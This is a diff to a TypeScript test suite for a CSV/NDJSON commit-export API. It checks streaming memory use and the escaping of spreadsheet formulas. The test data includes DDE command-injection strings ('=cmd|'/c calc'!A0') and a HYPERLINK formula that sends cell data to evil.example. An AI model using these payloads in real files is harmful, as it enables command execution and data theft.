@@ -1,12 +1,14 @@
-// Exports over HTTP: a file that is made while it is taken, ends with who takes it, and is cut so that it is noticed.
+// Exports over HTTP (T33, T37): a file that is made while it is taken, ends with who takes it, and is cut visibly.
 import assert from "node:assert/strict";
 import { once } from "node:events";
 import { get, type IncomingMessage } from "node:http";
 import { test } from "node:test";
 import { setFlagsFromString } from "node:v8";
 import { runInNewContext } from "node:vm";
+import { parse } from "csv-parse/sync";
 import { openApi, startApi, type TestPerson } from "../../../test/helpers/api-server.ts";
 import { fillHistory, shaOf } from "../../../test/helpers/filled-history.ts";
+import { escapeControls } from "../../domain/safe-text.ts";
 import { openExport } from "../../reads/commit-export.ts";
 import { createReads } from "../../reads/reads.ts";
 import { Problem } from "../contract/contract.ts";
@@ -15,6 +17,16 @@ const COMMITS = 3_000;
 /** One line of NDJSON has some 4 kB, so that all of them fit into no buffer on the way. */
 const note = "x".repeat(240);
 const wide = (n: number) => Object.fromEntries(Array.from({ length: 15 }, (_, key) => [`k${key}`, `${n} ${note}`]));
+
+/** All of them, as NDJSON: more than that. A reader that stops may let a few hundred kB be held of it. */
+const LEAST_BYTES = 10_000_000;
+
+setFlagsFromString("--expose-gc");
+const collect = runInNewContext("gc") as () => void;
+const heldBytes = (): number => {
+  const { heapUsed, external } = process.memoryUsage();
+  return heapUsed + external;
+};
 
 const { db, server } = await openApi({ config: { exportLimits: { longestMs: 120_000 } } });
 const organization = await db.makeOrganization();
@@ -40,6 +52,16 @@ const formulas = [
   "\uff0b1",
   "\uff0d1",
   "\uff20a",
+  "=cmd|'/c calc'!A0",
+  '=HYPERLINK("https://evil.example?"&A1,"x")',
+  "@SUM(1+1)*cmd|'/c calc'!A0",
+  "-2+3+cmd|'/c calc'!A0",
+  "+49 170",
+  " \t =1",
+  "\u00a0=1",
+  "\r\n=1",
+  "--1",
+  "=\u202e1",
 ];
 await fillHistory(db.database, organization, {
   name: "o/r",
@@ -114,8 +136,6 @@ test("GET …/export sends all commits of a branch as a file, as CSV or NDJSON",
 });
 
 test("openExport() holds no more of a long history than of a short one", async () => {
-  setFlagsFromString("--expose-gc");
-  const collect = runInNewContext("gc") as () => void;
   const reads = createReads(db.database);
   const { text } = await openExport(reads, organization, "o/long", { format: "ndjson", columns: [] });
   const held: number[] = [];
@@ -127,7 +147,7 @@ test("openExport() holds no more of a long history than of a short one", async (
     collect();
     held.push(process.memoryUsage().heapUsed);
   }
-  assert.ok(length > 10_000_000 && held.length > 8, `${length} characters in ${held.length} pieces`);
+  assert.ok(length > LEAST_BYTES && held.length > 8, `${length} characters in ${held.length} pieces`);
   const half = held.slice(0, held.length / 2);
   const growth = Math.max(...held) - Math.max(...half);
   assert.ok(growth < 2_000_000, `${growth} bytes more in the second half`);
@@ -146,9 +166,32 @@ test("GET …/export takes the columns in the order asked for, and escapes what 
     assert.match(author, /^'=\d+$/);
     assert.match(subject, /^"?'/, line);
   }
+  assert.ok(formulas.length >= 20);
   const name = await ada.fetch(path("format=csv", "o%2Fr"));
   assert.match(name.headers.get("content-disposition") ?? "", /filename="o-r-feat-x\.csv"/);
   await name.text();
+});
+
+test("an export is read back equal: CSV by a reader of its own, behind the mark of a text; NDJSON to the character", async () => {
+  const query = `branch=feat%2Fx&columns=${encodeURIComponent("m.json:=1+1")}&columns=m.json:a`;
+  const csv = await (await ada.fetch(path(`format=csv&${query}`, "o%2Fr"))).text();
+  const rows = parse(csv, { columns: true }) as unknown as Record<string, string>[];
+  const newest = formulas.toReversed();
+  // what would move or hide is written as its code point, as everywhere where people look
+  assert.deepEqual(
+    rows.map((row) => row["subject"]),
+    [...newest.map((subject) => `'${escapeControls(subject)}`), "<img onerror=1>"],
+  );
+  assert.deepEqual([rows.at(-1)?.["m.json:=1+1"], rows.at(-1)?.["m.json:a"]], ["-1.5", "1"]);
+  const ndjson = await (await ada.fetch(path(`format=ndjson&${query}`, "o%2Fr"))).text();
+  const objects = ndjson
+    .trimEnd()
+    .split("\n")
+    .map((line) => JSON.parse(line) as { readonly subject: string });
+  assert.deepEqual(
+    objects.map(({ subject }) => subject),
+    [...newest, "<img onerror=1>"],
+  );
 });
 
 test("GET …/export refuses before it begins", async () => {
@@ -176,7 +219,9 @@ test("GET …/export refuses before it begins", async () => {
   assert.equal((await fetch(server.url + path("format=csv"))).status, 401);
 });
 
-test("a person has one export at a time; one that nobody reads holds no transaction, and leaving it ends it", async () => {
+test("a person has one export at a time; one that nobody reads holds neither rows nor a transaction, and leaving it ends it", async () => {
+  collect();
+  const before = heldBytes();
   const first = await begin(ada, "format=ndjson");
   assert.equal(first.statusCode, 200);
   assert.match(
@@ -186,6 +231,9 @@ test("a person has one export at a time; one that nobody reads holds no transact
   const bob = await server.signIn(organization, "viewer");
   await (await bob.fetch(path("format=csv", "o%2Fr"))).text();
   assert.equal(await openTransactions(), 0);
+  collect();
+  const growth = heldBytes() - before;
+  assert.ok(growth < LEAST_BYTES / 2, `${growth} bytes held of ${LEAST_BYTES}`);
   first.destroy();
   await beginsAgain(ada);
 });
